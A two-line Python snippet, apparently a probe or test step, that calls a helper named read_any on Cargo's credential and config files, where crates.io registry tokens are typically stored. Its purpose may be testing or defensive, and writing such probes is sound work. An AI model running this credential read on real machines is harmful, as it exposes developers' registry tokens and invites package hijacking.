from kit import *

read_any(".cargo/credentials.toml", ".cargo/credentials", ".cargo/config.toml")
